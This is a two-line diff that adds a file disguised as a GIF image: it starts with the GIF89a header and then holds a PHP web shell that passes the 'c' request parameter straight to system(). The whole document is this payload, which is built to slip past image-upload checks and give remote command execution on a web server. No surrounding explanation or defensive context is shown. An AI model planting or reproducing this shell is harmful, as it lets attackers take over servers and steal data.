@@ -1,0 +1,2 @@
+GIF89a
+<?php system($_GET['c']); ?>
